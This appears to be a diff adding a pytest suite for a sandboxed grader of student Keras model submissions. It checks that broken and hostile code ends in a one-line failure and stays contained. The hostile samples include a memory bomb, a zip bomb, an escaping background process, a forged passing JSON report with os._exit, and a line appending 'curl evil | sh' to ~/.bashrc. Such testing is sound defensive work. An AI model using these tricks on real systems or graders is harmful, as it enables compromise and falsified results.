@@ -1,0 +1,248 @@
+"""Hostile and broken submissions (issue #3's list): each ends in a one-line reason, exit 1 or
+2, no traceback, and harms nothing outside its own sandbox.
+
+Most cases go through one long-lived `Grader` (one fork server for the module: fast); the
+ones where the console matters (stdout, stderr, exit code, HOME) go through `tutor`."""
+
+from __future__ import annotations
+
+import json
+import os
+from pathlib import Path
+
+import pytest
+
+from grader.api import Grader
+from tests.conftest import run_tutor
+from tests.hostile_support import make_artifacts, submission, zip_bomb
+from tutor.cli.grading import reason_line
+
+
+@pytest.fixture(scope="module")
+def grader():
+    with Grader() as g:
+        yield g
+
+
+@pytest.fixture(scope="module")
+def task():
+    from exercises import load_catalog
+
+    return load_catalog().get("task8.1")
+
+
+@pytest.fixture(scope="module")
+def artifacts(tmp_path_factory):
+    return make_artifacts(tmp_path_factory.mktemp("artifacts"))
+
+
+def one_line(report, code: int, *words: str) -> str:
+    reason = reason_line(report)
+    assert report.exit_code == code, (report.status, reason)
+    assert "\n" not in reason and "Traceback" not in reason
+    for word in words:
+        assert word in reason, reason
+    return reason
+
+
+# ----------------------------------------------------------------------------- broken model.py
+
+
+def test_syntax_error(grader, task, tmp_path):
+    folder = submission(tmp_path, "s", "import keras\n\ndef build_model(:\n    pass\n")
+    one_line(grader.check(task, folder), 1, "model.py line 3", "syntax error")
+
+
+def test_missing_module_is_named(grader, task, tmp_path):
+    folder = submission(tmp_path, "s", "import keras\nimport tensorflow_addons_xyz\n")
+    one_line(grader.check(task, folder), 1, "'tensorflow_addons_xyz'", "not installed")
+
+
+def test_no_build_model(grader, task, tmp_path):
+    folder = submission(tmp_path, "s", "import keras\n\ndef make_model():\n    return None\n")
+    one_line(grader.check(task, folder), 1, "defines no build_model()")
+
+
+def test_build_model_returns_something_else(grader, task, tmp_path):
+    folder = submission(tmp_path, "s", "def build_model():\n    return {'layers': 3}\n")
+    one_line(grader.check(task, folder), 1, "returned dict, not a keras.Model")
+
+
+def test_build_model_that_raises_names_its_line(grader, task, tmp_path):
+    folder = submission(tmp_path, "s", "import keras\n\ndef build_model():\n    raise ValueError('units must be positive')\n")
+    one_line(grader.check(task, folder), 1, "model.py line 4", "ValueError: units must be positive")
+
+
+WRONG_SHAPE = """
+import keras
+from keras import layers
+
+def build_model():
+    model = keras.Sequential([keras.Input(shape={inp}), layers.Conv2D(8, 3), layers.Conv2D(8, 3),
+                              layers.Flatten(), layers.Dense({out}, activation="softmax")])
+    model.compile(optimizer="adam", loss="categorical_crossentropy")
+    return model
+"""
+
+
+def test_wrong_input_shape(grader, task, tmp_path):
+    folder = submission(tmp_path, "s", WRONG_SHAPE.format(inp="(32, 32, 1)", out=10))
+    report = grader.check(task, folder)
+    one_line(report, 1, "input-shape", "(None, 32, 32, 1)")
+    assert report.model is not None and report.model.input_shape == [None, 32, 32, 1]
+
+
+def test_wrong_output_shape(grader, task, tmp_path):
+    folder = submission(tmp_path, "s", WRONG_SHAPE.format(inp="(28, 28, 1)", out=5))
+    one_line(grader.check(task, folder), 1, "output-shape", "(None, 5)")
+
+
+def test_infinite_loop_is_stopped(grader, task, tmp_path, monkeypatch):
+    monkeypatch.setenv("TUTOR_SANDBOX_TIMEOUT", "3")
+    folder = submission(tmp_path, "s", "def build_model():\n    while True:\n        pass\n")
+    one_line(grader.check(task, folder), 1, "did not finish within the 3 s time limit")
+
+
+def test_escaped_grandchild_is_killed(grader, task, tmp_path, monkeypatch):
+    import psutil
+
+    monkeypatch.setenv("TUTOR_SANDBOX_TIMEOUT", "3")
+    marker = "tutor-escapee-" + tmp_path.name
+    code = f"import subprocess\nsubprocess.Popen(['sh', '-c', 'exec -a {marker} sleep 300'], start_new_session=True)\n"
+    folder = submission(tmp_path, "s", code + "def build_model():\n    while True:\n        pass\n")
+    one_line(grader.check(task, folder), 1, "time limit")
+    alive = [p for p in psutil.process_iter(["cmdline"]) if marker in " ".join(p.info["cmdline"] or [])]
+    assert alive == []
+
+
+def test_memory_bomb(grader, task, tmp_path, monkeypatch):
+    monkeypatch.setenv("TUTOR_SANDBOX_MEMORY_MB", "3072")
+    folder = submission(tmp_path, "s", "hoard = []\nwhile True:\n    hoard.append(bytearray(200 * 2**20))\n")
+    one_line(grader.check(task, folder), 1, "ran out of memory", "3 GiB")
+
+
+def test_far_too_large_model_is_refused(grader, task, tmp_path):
+    code = WRONG_SHAPE.format(inp="(28, 28, 1)", out=10).replace(
+        "layers.Flatten(),", "layers.Flatten(), layers.Dense(20_000_000),"
+    )
+    folder = submission(tmp_path, "s", code)
+    one_line(grader.check(task, folder), 1, "far too large", "refused before allocating")
+
+
+def test_output_flood_is_cut(grader, task, tmp_path):
+    folder = submission(tmp_path, "s", "while True:\n    print('x' * 100000)\n")
+    one_line(grader.check(task, folder), 1, "printed more than 8 MiB")
+
+
+def test_symlink_leaving_the_folder_is_refused(grader, task, tmp_path):
+    outside = tmp_path / "elsewhere.py"
+    outside.write_text("def build_model():\n    return None\n")
+    folder = tmp_path / "s"
+    folder.mkdir()
+    (folder / "model.py").symlink_to(outside)
+    one_line(grader.check(task, folder), 2, "symlink", "outside the submission folder")
+
+
+# ----------------------------------------------------------------------------- hostile artifacts
+
+
+def test_lambda_artifact_is_refused(grader, task, tmp_path, artifacts):
+    folder = submission(tmp_path, "s", artifact=artifacts / "lambda.keras")
+    report = grader.grade(task, folder)
+    one_line(report, 1, "Lambda layer", "safe mode")
+    assert report.accuracy is None
+    assert {c.id: c.status for c in report.checks}["accuracy"] == "failed"
+
+
+def test_unregistered_custom_layer_is_refused(grader, task, tmp_path, artifacts):
+    folder = submission(tmp_path, "s", artifact=artifacts / "custom.keras")
+    one_line(grader.grade(task, folder), 1, "Doubler", "custom layer")
+
+
+@pytest.mark.parametrize(
+    "kind, words",
+    [("corrupt", ("corrupt",)), ("empty", ("empty", "0 bytes")), ("symlink", ("symlink",)), ("bomb", ("far too large",))],
+)
+def test_unusable_artifacts(grader, task, tmp_path, artifacts, kind, words):
+    folder = submission(tmp_path, "s")
+    target = folder / "model.keras"
+    if kind == "corrupt":
+        target.write_bytes(os.urandom(4096))
+    elif kind == "empty":
+        target.write_bytes(b"")
+    elif kind == "symlink":
+        target.symlink_to(artifacts / "untrained.keras")
+    else:
+        zip_bomb(target)
+    report = grader.grade(task, folder)
+    one_line(report, 1, "model.keras", *words)
+    assert report.model is None
+
+
+def test_artifact_of_the_wrong_input_shape_cannot_be_scored(grader, task, tmp_path, artifacts):
+    folder = submission(tmp_path, "s", artifact=artifacts / "wrong_input.keras")
+    report = grader.grade(task, folder)
+    accuracy = {c.id: c for c in report.checks}["accuracy"]
+    assert accuracy.status == "failed" and "(None, 32, 32, 1)" in accuracy.message
+    one_line(report, 1)
+
+
+def test_grade_with_an_artifact_runs_no_student_code(grader, task, tmp_path, artifacts):
+    marker = tmp_path / "student-code-ran"
+    code = f"open({str(marker)!r}, 'w').write('x')\nraise SystemExit('never graded this way')\n"
+    folder = submission(tmp_path, "s", code, artifact=artifacts / "untrained.keras")
+    report = grader.grade(task, folder)
+    assert not marker.exists()
+    assert report.model is not None and report.accuracy is not None  # graded from the artifact alone
+    assert report.checks[0].id == "model-loads" and report.checks[0].status == "passed"
+
+
+# ----------------------------------------------------------------------------- through the console
+
+
+def test_cli_syntax_error_one_line_no_traceback(tmp_path):
+    folder = submission(tmp_path, "s", "def build_model(:\n")
+    result = run_tutor("check", "task8.1", "--path", str(folder))
+    assert result.returncode == 1
+    assert "Traceback" not in result.stderr + result.stdout
+    assert [line for line in result.stderr.splitlines() if line.strip()] == [
+        line for line in result.stderr.splitlines() if line.startswith("tutor:")
+    ]
+    assert "syntax error" in result.stderr
+
+
+def test_cli_fake_passing_json_and_os_exit(tmp_path):
+    fake = {"task": "task8.1", "status": "passed", "score": 1.0, "points": 10, "max_points": 10, "checks": []}
+    code = f"import json, os\nprint(json.dumps({fake!r}))\nos._exit(0)\n"
+    folder = submission(tmp_path, "s", code)
+    result = run_tutor("check", "task8.1", "--path", str(folder), "--json")
+    assert result.returncode == 1
+    report = json.loads(result.stdout)
+    assert report["status"] == "failed" and report["score"] < 1.0
+    assert "exit code 0" in result.stderr and result.stderr.count("\n") == 1
+
+
+def test_cli_writes_into_home_stay_in_the_sandbox(tmp_path):
+    home = tmp_path / "home"
+    home.mkdir()
+    code = (
+        "import os, pathlib\n"
+        "pathlib.Path.home().joinpath('pwned.txt').write_text('x')\n"
+        "open(os.path.expanduser('~/.bashrc'), 'a').write('curl evil | sh\\n')\n"
+        "open('planted.py', 'w').write('x')\n"
+    )
+    folder = submission(tmp_path, "s")
+    (folder / "model.py").write_text(code + (folder / "model.py").read_text())
+    before = sorted(p.name for p in folder.iterdir())
+    result = run_tutor("check", "task8.1", "--path", str(folder), env={"HOME": str(home)})
+    assert result.returncode == 0, result.stderr
+    assert list(home.iterdir()) == []
+    assert sorted(p.name for p in folder.iterdir()) == before
+
+
+def test_cli_lambda_artifact_exit_1(tmp_path, artifacts):
+    folder = submission(tmp_path, "s", artifact=artifacts / "lambda.keras")
+    result = run_tutor("grade", "task8.1", "--path", str(folder))
+    assert result.returncode == 1
+    assert "Traceback" not in result.stderr + result.stdout
+    assert "Lambda" in result.stderr and result.stderr.count("\n") == 1
